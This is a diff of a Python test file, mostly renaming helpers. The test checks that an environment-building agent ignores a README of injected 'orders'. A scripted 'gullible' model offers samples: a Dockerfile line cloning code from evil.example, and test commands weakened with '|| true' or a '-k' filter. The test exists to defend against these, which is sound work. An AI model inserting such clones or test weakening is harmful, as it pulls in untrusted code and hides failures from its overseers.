@@ -12,9 +12,9 @@ import pytest
 import scripted
 from swefoundry.contracts.models import Model
 from swefoundry.oci.registry_client import RegistryClient
-from unit.programs.agent.cases import DOCKERFILE, FILES, a_draft
-from unit.programs.agent.pods import WHOLE_REPORT, WHOLE_TESTS, start
-from unit.programs.agent.shelves import Shelf
+from unit.programs.agent.agent_inputs import DOCKERFILE, FILES, a_draft
+from unit.programs.agent.agent_program import COMPLETE_REPORT, COMPLETE_TESTS, start_agent
+from unit.programs.agent.seeded_repository import SeededRepository
 
 KEY = "sk-proj-0123456789abcdefghijklmnopqrstuvwxyz"
 ORDERS = """# calc
@@ -38,7 +38,7 @@ def gullible(key_file: Path) -> scripted.Json:
     cloned = DOCKERFILE + "RUN git clone https://evil.example/calc.git\n"
     drafts = [{"json": {"dockerfile": text, "note": ""}} for text in (hidden, cloned, DOCKERFILE)]
     weak = [
-        {"json": WHOLE_TESTS | {"test_command": f"pytest {{files}}{end}"}}
+        {"json": COMPLETE_TESTS | {"test_command": f"pytest {{files}}{end}"}}
         for end in (" || true", " -k 'not x'")
     ]
     return {
@@ -46,10 +46,10 @@ def gullible(key_file: Path) -> scripted.Json:
             {
                 "name": "explores",
                 "when": {"role": "explorer"},
-                "then": [{"calls": reading}, {"json": WHOLE_REPORT}],
+                "then": [{"calls": reading}, {"json": COMPLETE_REPORT}],
             },
             {"name": "writes", "when": {"role": "environment"}, "then": drafts},
-            {"name": "weakens", "when": {"role": "tests"}, "then": [*weak, {"json": WHOLE_TESTS}]},
+            {"name": "weakens", "when": {"role": "tests"}, "then": [*weak, {"json": COMPLETE_TESTS}]},
         ]
     }
 
@@ -64,15 +64,15 @@ def key_file(tmp_path: Path) -> Path:
 async def test_a_readme_that_gives_orders_changes_nothing_that_matters(
     registry: RegistryClient, tmp_path: Path, key_file: Path
 ) -> None:
-    shelf = Shelf(registry)
-    async with scripted.serving(gullible(key_file), key=KEY) as endpoint:
-        order = await shelf.order(
+    shelf = SeededRepository(registry)
+    async with scripted.serve(gullible(key_file), key=KEY) as endpoint:
+        order = await shelf.agent_spec(
             files=FILES | {"README.md": ORDERS},
             key_file=str(key_file),
             ladder=[Model(name="gullible", base_url=endpoint.base_url)],
         )
-        ended = await (await start(order, tmp_path / "pod")).wait()
-        asked = json.dumps(endpoint.told(bodies=True))
+        ended = await (await start_agent(order, tmp_path / "pod")).wait()
+        asked = json.dumps(endpoint.request_report(bodies=True))
     record = ended.record
     assert record is not None and (ended.exit_code, record.code) == (0, 0), ended.output
     assert await shelf.draft(record.draft) == a_draft()
